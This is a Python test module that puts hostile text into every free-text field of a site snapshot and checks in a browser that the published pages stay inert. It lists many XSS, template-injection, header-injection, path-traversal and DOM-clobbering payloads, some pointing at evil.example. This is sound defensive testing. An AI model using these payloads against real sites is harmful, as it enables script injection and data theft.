"""Text of the worst kind in every field that a page could show, and what a browser would see if any of it worked."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import msgspec

from publisher.files import canonical_json
from publisher.samples import pack_samples, unpack_samples
from tests.beside import add_report
from tests.trees import PAYLOADS, snapshot_tree

if TYPE_CHECKING:
    from pathlib import Path

    from publisher.schema import Sample
    from tests.chromium import Browser

_CALL = "alert(1)"
PLAIN = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script\n>{_CALL}</script\t>",
    "<script src=https://evil.example/x.js></script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</noscript><script>{_CALL}</script>",
    f"</template><script>{_CALL}</script>",
    f"--><script>{_CALL}</script><!--",
    f"]]><script>{_CALL}</script>",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<img src=x onerror={_CALL}>",
    f"<img/src=x/onerror={_CALL}>",
    f"<IMG SRC=x ONERROR='{_CALL}'>",
    "<img src=https://evil.example/track.png>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_CALL}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><body onload={_CALL}></body></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{_CALL}'>x</maction></math>",
    f"<math><mtext></mtext><mglyph><style></math><img src=x onerror={_CALL}>",
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}>",
    f"<marquee onstart={_CALL}>",
    f"<iframe src='javascript:{_CALL}'></iframe>",
    f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<object data='javascript:{_CALL}'></object>",
    f"<embed src='javascript:{_CALL}'>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css'; * {display: none}</style>",
    "<form action=https://evil.example/><input name=q></form>",
    "<form id=content><input name=getElementById></form>",
    "<a id=location name=location href='https://evil.example/'>x</a>",
    "<img name=body><img name=forms><form name=documentElement>",
    f"<a href='javascript:{_CALL}'>x</a>",
    f"<a href='jav&#x09;ascript:{_CALL}'>x</a>",
    f"<a href='data:text/html,<script>{_CALL}</script>'>x</a>",
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}//",
    f"data:text/html,<script>{_CALL}</script>",
    "vbscript:msgbox(1)",
    f'" onmouseover={_CALL} autofocus onfocus={_CALL} x="',
    f"' onmouseover={_CALL} autofocus onfocus={_CALL} x='",
    f"` onmouseover={_CALL} x=`",
    f" onfocus={_CALL} autofocus tabindex=0 ",
    f'"/><script>{_CALL}</script>',
    f"'><img src=x onerror={_CALL}>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{ 7 * 7 }}{% for x in ().__class__.__bases__ %}{% endfor %}${7*7}#{7*7}",
    "{{ config }}{% include '/etc/passwd' %}",
    "\u202egnp.exe\u2066\u200b\ufeff\u00ad",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "\x00\x1b[31m\x1b]8;;https://evil.example\x07x\x1b]8;;\x07\x9b",
    "\ud7ff\ufffe\uffff\U0010ffff",
    "../../../../etc/passwd",
    "//evil.example/x",
    "https://evil.example/",
    "?a=b#content",
    "__proto__",
    "constructor",
    "x" * 5_000,
    "\u0301" * 500 + "x",
    "\n" * 200 + "x",
)
"""Attempts at pages, attributes, addresses, templates, headers and terminals."""
EVERY = (*PLAIN, *PAYLOADS)
_FIXED = frozenset(
    {"run_id", "suite", "headline", "direction", "effect", "outcome", "verdict", "meaning", "part", "better", "site"}
)
"""Keys that join the documents, or whose values are one of a few words: anything else there is rejected."""
PROBE = """
window.seen = {called: [], violations: []};
for (const name of ["alert", "confirm", "prompt", "open", "print", "msgbox"]) {
  window[name] = () => { window.seen.called.push(name); };
}
document.addEventListener("securitypolicyviolation", (one) => {
  window.seen.violations.push(one.effectiveDirective + " " + one.blockedURI + " " + one.sample);
});
"""
_LOOK = """(() => {
  document.querySelectorAll("details").forEach((one) => { one.open = true; });
  const bad = [];
  const foreign = "img, iframe, object, embed, form, base, style, video, audio, source, marquee, foreignObject, " +
    "body script, [style], [autofocus], [srcdoc], [name]:not(meta)";
  document.querySelectorAll(foreign).forEach((one) => bad.push("an element: " + one.outerHTML.slice(0, 120)));
  document.querySelectorAll("*").forEach((one) => {
    for (const attribute of one.attributes) {
      if (/^on/i.test(attribute.name)) { bad.push("a handler: " + one.outerHTML.slice(0, 120)); }
      if (/^(xlink:)?(href|src|action)$/i.test(attribute.name) &&
          !/^(https?:|[^a-z]|[a-z0-9_-]+([/.#?]|$))/i.test(attribute.value.trim())) {
        bad.push("an address: " + attribute.value.slice(0, 120));
      }
    }
    if (one.id && !/^[A-Za-z0-9][A-Za-z0-9_.-]*$/.test(one.id)) { bad.push("an id: " + one.id.slice(0, 80)); }
  });
  const policies = document.querySelectorAll("meta[http-equiv]").length;
  if (policies !== 1) { bad.push(policies + " policies in the page"); }
  if (document.querySelectorAll("main").length !== 1) { bad.push("no single main part"); }
  const native = typeof document.getElementById === "function" && document.body instanceof HTMLBodyElement &&
    document.forms instanceof HTMLCollection && document.documentElement instanceof HTMLHtmlElement &&
    location instanceof Location && typeof document.title === "string";
  if (!native) { bad.push("a name of the document means something else"); }
  return {bad: bad.slice(0, 5), called: window.seen.called, violations: window.seen.violations};
})()"""


def hostile_tree(folder: Path, text: str) -> Path:
    """Write the tree of a snapshot in which every field that takes free text has `text` in it, and return it."""
    add_report(snapshot_tree(folder, runs=5, problems=8))
    ledger = folder / "ledger"
    for name in ("record", "verdict", "history", "report"):
        path = ledger / f"{name}.json"
        path.write_bytes(canonical_json(_poisoned(json.loads(path.read_bytes()), text)))
    for path in ledger.rglob("samples.jsonl.gz"):
        samples = unpack_samples(path.read_bytes())
        path.write_bytes(pack_samples([_poisoned_sample(sample, text) for sample in samples]))
    return folder


def _poisoned(value: Any, text: str, key: str = "", inside: str = "") -> Any:
    """Return a document with `text` in the place of every text that is not fixed, and after the ids of problems.

    `key` is where the value stands, `inside` where what it is part of stands.
    """
    if isinstance(value, dict):
        names = {"problem", "right_by_problem", "scored_by_problem"}
        own = value.get("run_id") and "snapshot" in value and value.get("snapshot") == _own_branch(value)
        return {
            (f"{name}{text}" if key in names else f"{name}{text}"[:60] if key == "kinds" else name): (
                part if own and name in {"snapshot", "address", "commit"} else _poisoned(part, text, name, key)
            )
            for name, part in value.items()
        }
    if isinstance(value, list):
        return [_poisoned(part, text, key, inside) for part in value]
    if not isinstance(value, str) or key in _FIXED or (key, inside) in {("kind", "passages"), ("name", "suites")}:
        return value
    return f"{value}{text}" if key == "problem" else text


def _own_branch(line: dict[str, Any]) -> str:
    return f"snapshot-{line['commit'][:12]}"


def _poisoned_sample(sample: Sample, text: str) -> Sample:
    return msgspec.structs.replace(
        sample,
        problem=f"{sample.problem}{text}",
        text=f"{text}\n\n{sample.text}",
        statement=f"{sample.statement}\n\n{text}",
        expected=text,
        answer=text,
        reason=text,
        kind=text,
        proof=text,
    )


def effects(browser: Browser, site: str, path: str, *, width: int = 1280) -> list[str]:
    """Return what hostile text did to a page of `site`: nothing where all of it is inert."""
    browser.complaints.clear()
    browser.requests.clear()
    browser.open(f"{site}{path}", width=width)
    seen = browser.value(_LOOK)
    found = [*seen["bad"], *(f"called {name}()" for name in seen["called"])]
    found += [f"blocked: {said}" for said in seen["violations"]]
    found += [f"a request to {address}" for address in browser.requests if not address.startswith((site, "data:"))]
    found += browser.complaints
    wide = browser.value("document.documentElement.scrollWidth")
    # None where the page is being left, which the next question tells.
    found += [f"{wide} pixels wide"] if (wide or 0) > width else []
    there = browser.value("location.href")
    return [*found, f"it went to {there}"] if there != f"{site}{path}" else found
